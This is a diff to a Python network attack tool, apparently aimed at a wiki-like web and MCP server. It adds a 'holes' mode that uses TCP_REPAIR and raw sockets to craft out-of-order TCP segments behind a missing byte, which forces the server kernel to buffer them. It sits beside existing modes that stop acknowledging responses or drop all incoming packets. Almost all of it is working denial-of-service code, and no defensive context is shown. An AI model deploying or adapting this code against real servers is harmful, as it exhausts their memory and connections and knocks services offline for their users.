@@ -26,6 +26,10 @@ REPEATING = ("calls", "meta", "creates", "retitles", "previews", "forms", "untit
 # The kind that reads this many answers, so that the server sends the next at once, and then acknowledges nothing more.
 DEAF, HEARD = "deaf", 4
 SO_ATTACH_FILTER = 26
+
+# The kind that reads one answer, and then leaves out a byte and sends these many segments behind it.
+HOLES, SEGMENTS, SEGMENT = "holes", 36, b"a"
+TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
 DROP_ALL = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
 FILTER = struct.pack("HL", 1, ctypes.addressof(DROP_ALL))
 
@@ -37,6 +41,35 @@ MCP_FIELDS = ("Content-Type: application/json", "Accept: application/json, text/
 
 def tool_call(tool, arguments, meta="{}"):
     return f'{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"_meta":{meta},"name":"{tool}","arguments":{json.dumps(arguments)}}}}}'
+
+
+def checksum(data):
+    """The checksum of IP and TCP (RFC 1071)."""
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def send_behind_holes(connected, raw):
+    """Sends segments of one byte, each of them behind a byte that never comes. The server's kernel has to keep them."""
+
+    def number(queue):
+        connected.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
+        return connected.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xFFFFFFFF
+
+    connected.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
+    acknowledged, next_byte = number(1), number(2)
+    connected.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, -1)
+    (source, port), (to, to_port) = connected.getsockname(), connected.getpeername()
+    addresses = socket.inet_aton(source) + socket.inet_aton(to)
+    for segment in range(SEGMENTS):
+        at = (next_byte + 1 + 2 * segment) & 0xFFFFFFFF
+        tcp = struct.pack("!HHIIBBHHH", port, to_port, at, acknowledged, 5 << 4, 0x10, 1000, 0, 0)
+        padded = addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp) + 1) + tcp + SEGMENT + b"\0"
+        tcp = tcp[:16] + struct.pack("!H", checksum(padded)) + tcp[18:]
+        ip = struct.pack("!BBHHHBBH", 0x45, 0, 41, segment, 0, 64, socket.IPPROTO_TCP, 0) + addresses
+        raw.sendto(ip + tcp + SEGMENT, (to, 0))
 
 
 def request(kind, host, page):
@@ -74,7 +107,7 @@ def request(kind, host, page):
         fields = {"content": TEXT, "action": "preview"}.items()
         parts = [f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in fields]
         return whole("POST", "/", "".join(parts) + "--b--\r\n", "Content-Type: multipart/form-data; boundary=b", "Accept: text/html")
-    return head("GET", {"idle": "/robots.txt", DEAF: f"/{page}.md", "html": f"/{page}", "json": f"/api/pages/{page}"}[kind])
+    return head("GET", {"idle": "/robots.txt", HOLES: "/robots.txt", DEAF: f"/{page}.md", "html": f"/{page}", "json": f"/api/pages/{page}"}[kind])
 
 
 class Connection:
@@ -134,6 +167,7 @@ class Attack:
         self.kind, self.to, self.sources, self.connections, self.seconds = kind, tuple(to), sources, connections, seconds
         self.request = memoryview(request(kind, f"{to[0]}:{to[1]}", page))
         self.refuses_to_read = kind in ("html", "json", "mcp", "parts")
+        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) if kind == HOLES else None
         self.statuses, self.answers, self.held = {}, 0, 0
 
     def run(self):
@@ -182,6 +216,8 @@ class Attack:
             if not one.got:
                 one.got = data[:12]
                 self.count(data[9:12].decode("latin-1"))
+                if self.raw:
+                    send_behind_holes(one.socket, self.raw)
             return
         if one.expected is None:
             one.got += data
